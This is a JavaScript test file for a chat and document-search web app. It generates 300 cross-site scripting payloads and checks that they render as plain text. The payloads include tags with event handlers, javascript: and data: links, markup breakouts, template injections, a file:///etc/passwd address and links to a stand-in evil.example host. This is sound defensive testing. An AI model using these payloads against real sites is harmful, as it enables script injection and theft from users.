// Sends hostile text through documents, titles, addresses, answers and questions: no script runs, nothing is loaded from elsewhere.

import test, { after, before } from 'node:test';
import assert from 'node:assert/strict';
import { ask, withApp } from './app_page.mjs';
import { startApp } from './app_server.mjs';
import { launch } from './browser.mjs';

const RUN = 'window.pwned=1';
const EVIL = 'https://evil.example/x';

const tags = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'audio', 'body', 'input', 'details', 'marquee', 'style', 'link', 'meta', 'base', 'form', 'math', 'template', 'a'];
const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart'];
const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,<svg onload=${RUN}>`, `vbscript:${RUN}`, `blob:${EVIL}`, `file:///etc/passwd`, `//evil.example/x`, `/\\evil.example`,
  EVIL, `https://user:pass@127.0.0.1/`, `http://127.0.0.1@evil.example/`, `https:evil.example`, `https://evil.example\\@127.0.0.1/`, `HTTPS://EVIL.EXAMPLE/`, `https://еvil.example/`,
];

/** 300 payloads: elements with handlers, links and images in Markdown and HTML, and ways out of what surrounds a text. */
export function payloads() {
  const out = [];
  for (const tag of tags) {
    out.push(`<${tag} src="${EVIL}" href="${EVIL}" ${events[out.length % events.length]}="${RUN}">${RUN}</${tag}>`);
    out.push(`<${tag}/${events[(out.length + 3) % events.length]}=${RUN} autofocus src=x>`);
    out.push(`</p></div><${tag} srcdoc="<script>parent.${RUN}</script>" data="${EVIL}" style="background:url(${EVIL})">`);
  }
  for (const address of addresses) {
    out.push(`[click](${address})`, `![image](${address})`, `<${address}>`, `[![x](${address})](${address})`, `[a]: ${address}\n\n[a][a]`, `| [t](${address}) |\n|---|\n| ![i](${address}) |`,
      `- [l](${address} "onmouseover=${RUN}")`, `> **[q](<${address}>)**`);
  }
  const breakouts = ['"', "'", '`', '-->', ']]>', '</textarea>', '</title>', '</style>', '</script>', '\u2028', '\u0000', '\u202e', '{{constructor.constructor("' + RUN + '")()}}', '${' + RUN + '}', '%3Cscript%3E', '&lt;script&gt;', '\\u003cscript\\u003e'];
  for (const end of breakouts) {
    for (const body of [`<img src=${EVIL} onerror=${RUN}>`, `<svg onload=${RUN}>`, ` onfocus=${RUN} autofocus x=`]) out.push(`${end}${body}${end}`);
  }
  const code = '```';
  const more = [
    `${code}html\n<img src=x onerror=${RUN}>\n${code}`, `\`<img src=x onerror=${RUN}>\``, `# <svg onload=${RUN}>`, `<!--><img src=x onerror=${RUN}>-->`,
    `<a href="${EVIL}" ping="${EVIL}" target=_top>x</a>`, `<meta http-equiv="refresh" content="0;url=${EVIL}">`, `<base href="${EVIL}">`, `<form action="${EVIL}"><button>x</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `[1](javascript:${RUN})`, `[1]<img src=x onerror=${RUN}>[1]`,
    `<style>@import "${EVIL}";*{background:url(${EVIL})}</style>`, `<link rel=stylesheet href=${EVIL}>`, `<script src=${EVIL}></script>`, `<iframe src="${EVIL}"></iframe>`, `[[<img src=x onerror=${RUN}>]]`,
    `${code}"><img src=x onerror=${RUN}>\ntext`, // never closed: what follows is code
  ];
  out.push(...more);
  const unique = [...new Set(out)];
  for (let i = 0; unique.length < 300; i++) unique.push(unique[i] + `\n\n${unique[i + 1]}`);
  return unique.slice(0, 300);
}

let browser;
let server;
before(async () => {
  browser = await launch();
  server = await startApp({ pace: 0 });
});
after(async () => {
  await browser?.close();
  await server?.close();
});

/** What must never come out of a text: elements, links elsewhere, handlers, a script that ran. */
const harm = (page) => page.evaluate(() => {
  const own = location.origin;
  const out = [];
  if (window.pwned !== undefined) out.push('a script ran');
  for (const element of document.querySelectorAll('#app *')) {
    if (['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'AUDIO', 'STYLE', 'LINK', 'META', 'BASE', 'MATH', 'TEMPLATE', 'MARQUEE'].includes(element.tagName)) out.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) out.push(`${element.tagName} ${name}`);
      if (name === 'style' && /url/.test(value)) out.push(`style ${value}`);
      if (['href', 'src', 'action', 'formaction', 'ping', 'srcdoc', 'data'].includes(name) && !new URL(value, own).href.startsWith(`${own}/app/`)) out.push(`${name} ${value}`);
    }
  }
  return out;
});

test('300 payloads through answers and questions stay text', async () => {
  const all = payloads();
  assert.equal(new Set(all).size, 300);
  await withApp(browser, `${server.url}/app/chat`, {}, async (page) => {
    for (let i = 0; i < all.length; i += 50) {
      const part = all.slice(i, i + 50);
      const question = `${part[0]} ${part[7]} ${i}`;
      server.state.answers.set(question, part.join('\n\n'));
      await ask(page, question);
      assert.deepEqual(await harm(page), []);
    }
    const shown = await page.locator('.prose').first().innerText();
    assert.match(shown, /<script src="https:\/\/evil\.example\/x"/, 'they are shown as they were written');
    assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('.cite')].length > 0), true);
  });
});

test('300 payloads through documents, titles and paths stay text', async () => {
  const all = payloads();
  const { documents } = await import('./fixture_documents.mjs');
  const first = documents.find(({ id }) => id === 1);
  const kept = { ...first };
  try {
    await withApp(browser, `${server.url}/app/search?q=payload`, {}, async (page) => {
      for (const [i, mediaType] of [[0, 'text/markdown'], [1, 'text/html'], [2, 'text/plain']]) {
        Object.assign(first, { title: all[i * 31], path: all[i * 17 + 3], url: 'javascript:window.pwned=1', mediaType, headings: [all[i + 5], all[i + 60]], text: `payload ${i}\n\n${all.join('\n\n')}` });
        await page.getByLabel('Search for').fill(`payload ${i}`);
        await page.waitForFunction((title) => document.querySelector('.hit-title')?.textContent === title, first.title);
        await page.locator('.hit').first().click();
        await page.waitForFunction((wanted) => document.querySelector('.panel .doc')?.textContent.includes(wanted), `payload ${i}`);
        assert.deepEqual(await harm(page), []);
        await page.keyboard.press('Escape');
        await page.reload(); // documents are kept by the page
        await page.waitForSelector('.search-page input');
      }
    });
  } finally {
    Object.assign(first, kept);
  }
});

test('payloads in titles of conversations, follow-ups, refusals and errors stay text', async () => {
  const all = payloads();
  await withApp(browser, `${server.url}/app/chat`, {}, async (page) => {
    for (const [i, payload] of all.filter((_, at) => at % 12 === 0).entries()) {
      const conversation = server.state.conversations.of(`hostile${i}`);
      conversation.title = payload;
      conversation.messages.push({ id: `u${i}`, parent_id: null, role: 'user', text: payload },
        { id: `a${i}`, parent_id: `u${i}`, role: 'assistant', text: payload, turn_id: payload, citations: [{ number: 1, document_id: payload, title: payload, source_path: payload, url: payload, headings: [payload], snippet: payload,
          marks: [{ answer_start: 0, answer_end: 9, source_start: 0, source_end: 9, quote: payload, support: payload }] }], confidence: payload, refusal_reason: i % 2 ? payload : null,
          meta: { model: payload, followups: [payload], nearest: [{ title: payload, snippet: payload }], hint: payload, usage: payload }, feedback: { rating: payload } });
      conversation.active_leaf = `a${i}`;
    }
    await page.goto(`${server.url}/app/chat/hostile1`);
    await page.waitForFunction(() => document.querySelectorAll('.row').length > 20 && document.querySelector('.turn'));
    assert.deepEqual(await harm(page), []);
    for (const i of [2, 5, 8]) {
      await page.goto(`${server.url}/app/chat/hostile${i}`);
      await page.waitForSelector('.turn .answer');
      assert.deepEqual(await harm(page), []);
    }
  });
});
